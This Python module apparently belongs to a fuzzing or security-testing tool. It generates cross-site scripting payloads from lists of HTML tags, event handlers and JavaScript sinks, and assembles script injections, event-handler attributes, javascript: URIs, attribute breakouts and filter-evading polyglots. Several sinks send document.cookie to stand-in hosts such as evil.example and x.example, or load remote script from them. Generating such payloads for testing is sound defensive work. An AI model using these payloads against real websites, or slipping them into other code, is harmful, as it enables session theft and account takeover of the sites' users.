"""Cross-site scripting attack grammars. Each function takes the explicit random.Random and
returns a payload."""
import base64

from ..draw import pick, rstr

XSS_TAGS = ["img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "object", "embed", "a", "div", "math", "select", "textarea", "keygen", "isindex", "form", "button", "x", "style", "source", "image"]
XSS_EVENTS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onmouseenter", "onauxclick", "onfocusin", "onwheel", "onbeforeprint", "onpageshow", "oninput"]
JS_SINKS = ["alert(1)", "alert(document.cookie)", "prompt(1)", "confirm(document.domain)", "alert`1`", "eval(atob('YWxlcnQoMSk='))",
            "fetch('//evil.example/'+document.cookie)", "document.location='http://evil.example/?c='+document.cookie", "top['al'+'ert'](1)",
            "window['\\x61lert'](1)", "(alert)(1)", "new Image().src='//x.example/?'+document.cookie", "import('//x.example/m.js')",
            "String.fromCharCode(88,83,83)", "self[`alert`](1)", "setTimeout('alert(1)')", "[].constructor.constructor('alert(1)')()",
            "location.href='javascript:alert(1)'", "console.log(document.cookie)", "parent.alert(1)", "Function('alert(1)')()"]


def xss_script(r):
    s = pick(r, JS_SINKS)
    return pick(r, [f"<script>{s}</script>", f"<script src=//evil.example/x.js></script>", f"<ScRiPt>{s}</sCrIpT>",
                 f"<script>{s}//", f"<script type=text/javascript>{s};</script>", f"<scr<script>ipt>{s}</scr</script>ipt>",
                 f"<script\x20type=\"text/javascript\">{s}</script>", f"</title><script>{s}</script>", f"<script>/*{rstr(r)}*/{s}</script>"])


def xss_event(r):
    t, e, s = pick(r, XSS_TAGS), pick(r, XSS_EVENTS), pick(r, JS_SINKS)
    sep = pick(r, [" ", "/", "\t", "\n", " x ", "/x/"])
    q = pick(r, ["", "\"", "'"])
    extra = pick(r, ["", " src=x", " autofocus", " open", " tabindex=1", " style=animation-name:x"])
    return f"<{t}{extra}{sep}{e}={q}{s}{q}>" + pick(r, ["", f"</{t}>", "//"])


def xss_uri(r):
    s = pick(r, JS_SINKS)
    return pick(r, [f"javascript:{s}", f"JaVaScRiPt:{s}", f"java\tscript:{s}", f"<a href=\"javascript:{s}\">click</a>",
                 f"<iframe src=\"javascript:{s}\">", f"data:text/html;base64,{base64.b64encode(f'<script>{s}</script>'.encode()).decode()}",
                 f"<object data=\"data:text/html,<script>{s}</script>\">", f"<a href=javascript&colon;{s}>x</a>", f"vbscript:msgbox(1)",
                 f"<form action=javascript:{s}><input type=submit>", f"<embed src=\"javascript:{s}\">", f"javascript://%0a{s}"])


def xss_attr_break(r):
    s, e = pick(r, JS_SINKS), pick(r, XSS_EVENTS)
    return pick(r, [f"\"><script>{s}</script>", f"'><svg onload={s}>", f"\" {e}=\"{s}\" x=\"", f"' {e}='{s}' autofocus x='",
                 f"\"/><img src=x {e}={s}>", f"';{s};//", f"\";{s};//", f"</script><script>{s}</script>", f"\"-{s}-\"", f"'-{s}-'",
                 f"\" autofocus {e}={s} \"", f"</textarea><svg/onload={s}>", f"--><img src=x onerror={s}>"])


def xss_polyglot(r):
    s = pick(r, JS_SINKS)
    return pick(r, [f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={s} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={s}//>\\x3e",
                 f"<svg><animate onbegin={s} attributeName=x dur=1s>", f"<math><mtext><table><mglyph><style><img src=x onerror={s}>",
                 f"<x contenteditable onblur={s}>lose focus!", f"<style>@keyframes x{{}}</style><xss style=\"animation-name:x\" onanimationstart=\"{s}\"></xss>",
                 f"<svg><script>{s}</script>", f"<img src=\"x` `<script>{s}</script>\"` `>", f"<base href=\"javascript:/\">", f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{s}\">"])


